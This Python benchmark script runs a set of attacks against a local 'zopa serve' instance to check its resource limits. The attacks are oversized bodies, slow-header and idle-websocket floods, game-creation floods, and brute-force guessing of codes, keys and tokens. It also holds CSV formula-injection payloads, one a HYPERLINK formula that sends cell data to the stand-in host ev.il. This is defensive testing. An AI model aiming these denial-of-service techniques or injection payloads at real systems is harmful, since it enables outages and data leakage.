"""The attacks of issue 18 against a real ``zopa serve``, with what each one achieved.

Run: ``python bench/bench_attacks.py`` (about five minutes) against this tree, or
``--tree DIR`` against another checkout, e.g. the code before the limits:

    git archive 8cd9334 | tar -x -C /tmp/zopa-before
    python bench/bench_attacks.py --tree /tmp/zopa-before

``--nofile N`` starts the server with that soft limit on open files (a desktop's
default is 1,024), ``--only NAME,...`` runs some attacks. Every attack targets
127.0.0.0/8 only and ends by itself. Printed: one line per attack with what it got
(bytes the server read, connections held, games made, guesses checked, log lines) and
whether /healthz kept answering beside it.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.attacks import (
    database_bytes,
    guess,
    hello,
    http_call,
    huge_body,
    idle_sockets,
    memory_kb,
    practice_flood,
    raise_file_limit,
    slow_headers,
    ws_exchange,
)

ROOT = Path(__file__).resolve().parent.parent
KEY = "bench-attacks-facilitator-key"
MB = 1024
EVIL = ['=HYPERLINK("//ev.il/"&A2,"x")', "+1+2", "@SUM(1,2)"]


class Target:
    """``zopa serve`` from a source tree, on a fresh database."""

    def __init__(self, tree: Path, nofile: int | None, **env: str) -> None:
        self.tree = tree
        self.nofile = nofile
        self.folder = Path(tempfile.mkdtemp(prefix="zopa-attacks-"))
        self.database = self.folder / "zopa.db"
        self.log = self.folder / "server.log"
        self.env = {**os.environ, "ZOPA_FACILITATOR_KEY": KEY, **env}
        self.port = 0
        self.process: subprocess.Popen[bytes] | None = None

    def start(self) -> float:
        """Start and wait for /healthz; the seconds it took."""
        from tests.live import free_port

        self.port = free_port()
        command = [sys.executable, "-m", "zopa.server.cli", "serve", "--port", str(self.port)]
        command += ["--db", str(self.database)]
        limit = self.nofile

        def lower_limit() -> None:
            if limit is not None:
                hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
                resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))

        started = time.monotonic()
        with open(self.log, "ab") as out:
            self.process = subprocess.Popen(
                command,
                cwd=self.tree,
                env=self.env,
                stdout=out,
                stderr=out,
                preexec_fn=lower_limit,
            )
        while time.monotonic() - started < 120:
            if self.process.poll() is not None:
                return -1.0
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/healthz", timeout=1):
                    return time.monotonic() - started
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("the server did not start")

    @property
    def pid(self) -> int:
        assert self.process is not None
        return self.process.pid

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.terminate()
            self.process.wait(30)

    def log_lines(self) -> list[str]:
        return self.log.read_text(errors="replace").splitlines()


Attack = Callable[[Target], Coroutine[Any, Any, str]]


async def bodies(target: Target) -> str:
    found = []
    sizes = [("100 MiB", 100 << 20, False), ("1 GiB", 1 << 30, False)]
    sizes.append(("1 GiB chunked", 1 << 30, True))
    for number, (name, size, chunked) in enumerate(sizes):
        if number > 0:
            # A fresh server for each, so its peak memory is this body's alone.
            target.stop()
            target.start()
        before = memory_kb(target.pid)
        started = time.monotonic()
        status, sent = await huge_body(target.port, size, chunked)
        after = memory_kb(target.pid)
        took = time.monotonic() - started
        found.append(
            f"{name}: answered {status}, {sent >> 20} MiB sent in {took:.1f} s, "
            f"peak RSS +{(after['VmHWM'] - before['VmHWM']) / MB:.1f} MB "
            f"(RSS {before['VmRSS'] / MB:.0f} -> {after['VmRSS'] / MB:.0f} MB)"
        )
    return "; ".join(found)


async def headers_slowly(target: Target) -> str:
    crowd = await slow_headers(target.port, "127.0.0.2", 4000, 30.0, 10.0, target.pid)
    return "4,000 connections sending a header byte every 10 s, for 30 s: " + crowd.summary()


async def idle(target: Target) -> str:
    status, _, body = await http_call(
        target.port, "POST", "/api/practice", {"name": "Idle", "scenario": "guitar"}
    )
    assert status == 201, body
    greeting = {"type": "hello", "token": json.loads(body)["token"]}
    before = memory_kb(target.pid)
    crowd = await idle_sockets(target.port, "127.0.0.3", 16000, 15.0, greeting, target.pid)
    after = memory_kb(target.pid)
    return (
        f"16,000 websockets on one practice token, held 15 s: {crowd.summary()}; "
        f"answers {dict(crowd.answers)}; peak RSS +{(after['VmHWM'] - before['VmHWM']) / MB:.0f} MB"
    )


async def flood(target: Target) -> str:
    rss = memory_kb(target.pid)["VmRSS"]
    disk = database_bytes(target.database)
    found = await practice_flood(target.port, 60.0, workers=4, source="127.0.0.6")
    grown = (memory_kb(target.pid)["VmRSS"] - rss) / MB
    db = (database_bytes(target.database) - disk) / (1 << 20)
    target.stop()
    restart = target.start()
    restarted = memory_kb(target.pid)["VmRSS"] / MB
    return (
        f"practice + walkout in a loop for 60 s: {found.games} games made, {found.refused} "
        f"refused (answers {dict(found.statuses)}, Retry-After {sorted(found.retry_after)}); "
        f"RSS +{grown:.0f} MB, database "
        f"+{db:.1f} MB; the next start took {restart:.1f} s, RSS then {restarted:.0f} MB"
    )


async def guesses(target: Target) -> str:
    found = []
    for what, wrong, source in (
        ("code", 404, "127.0.0.7"),
        ("key", 401, "127.0.0.8"),
        ("token", 4401, "127.0.0.9"),
    ):
        lines = len(target.log_lines())
        result = await guess(target.port, what, seconds=10.0, source=source)
        logged = len(target.log_lines()) - lines
        found.append(
            f"{what}s: {result.checked_per_second(wrong):.1f} checked a second over 10 s "
            f"({dict(result.answers)}), {logged} log lines"
        )
    return "; ".join(found)


async def log_flood(target: Target) -> str:
    lines, size = len(target.log_lines()), target.log.stat().st_size
    codes = [
        await ws_exchange(target.port, [b'{"type":"hello","token":"\xff"}']) for _ in range(500)
    ]
    await asyncio.sleep(1.5)
    grown = len(target.log_lines()) - lines
    return (
        f"500 text frames of invalid UTF-8 (closed {sorted(set(map(str, codes)))}): "
        f"{grown} log lines, {(target.log.stat().st_size - size) / 1024:.0f} KB, "
        f"{sum('Traceback' in line for line in target.log_lines())} tracebacks"
    )


async def security_headers(target: Target) -> str:
    found = []
    for path in ("/facilitator.html", "/api/scenarios"):
        _, headers, _ = await http_call(target.port, "GET", path)
        wanted = ("content-security-policy", "x-content-type-options", "referrer-policy")
        found.append(f"{path}: {', '.join(h for h in wanted if h in headers) or 'none'}")
    return "; ".join(found)


async def spreadsheet(target: Target) -> str:
    _, _, body = await http_call(target.port, "POST", "/api/sessions", {"scenario": "guitar"}, KEY)
    code = json.loads(body)["code"]
    tokens = []
    for name in [*EVIL, "Ana"]:
        _, _, joined = await http_call(
            target.port, "POST", f"/api/sessions/{code}/players", {"name": name}
        )
        tokens.append(json.loads(joined)["token"])
    await http_call(target.port, "POST", f"/api/sessions/{code}/rounds", {}, KEY)
    walkout = json.dumps({"type": "walkout"}).encode()
    for token in tokens:
        await ws_exchange(target.port, [hello(token), walkout], wait=0.3)
    _, _, text = await http_call(target.port, "GET", f"/api/sessions/{code}/results.csv", None, KEY)
    cells = {cell for row in csv.reader(io.StringIO(text.decode())) for cell in row}
    shown = [cell for cell in cells if any(name in cell for name in EVIL)]
    return f"results.csv cells: {sorted(shown)}"


def short_key(tree: Path, nofile: int | None) -> str:
    target = Target(tree, nofile, ZOPA_FACILITATOR_KEY="a")
    started = target.start()
    target.stop()
    said = [line for line in target.log_lines() if "ZOPA_FACILITATOR_KEY" in line]
    shutil.rmtree(target.folder, ignore_errors=True)
    return "started" if started >= 0 else f"refused at start: {said[-1] if said else '?'}"


ATTACKS: dict[str, Attack] = {
    "bodies": bodies,
    "slow-headers": headers_slowly,
    "idle-sockets": idle,
    "practice-flood": flood,
    "guessing": guesses,
    "log-flood": log_flood,
    "headers": security_headers,
    "csv": spreadsheet,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tree", type=Path, default=ROOT, help="the checkout to serve")
    parser.add_argument("--nofile", type=int, default=None, help="the server's file limit")
    parser.add_argument("--only", default="", help="comma-separated attack names")
    args = parser.parse_args()
    chosen = [n for n in args.only.split(",") if n] or [*ATTACKS, "short-key"]
    print(f"client file limit {raise_file_limit()}; server tree {args.tree}", flush=True)
    for name in chosen:
        if name == "short-key":
            print(f"short-key: ZOPA_FACILITATOR_KEY=a: {short_key(args.tree, args.nofile)}")
            continue
        target = Target(args.tree, args.nofile)
        target.start()
        try:
            print(f"{name}: {asyncio.run(ATTACKS[name](target))}", flush=True)
        finally:
            target.stop()
            shutil.rmtree(target.folder, ignore_errors=True)


if __name__ == "__main__":
    main()
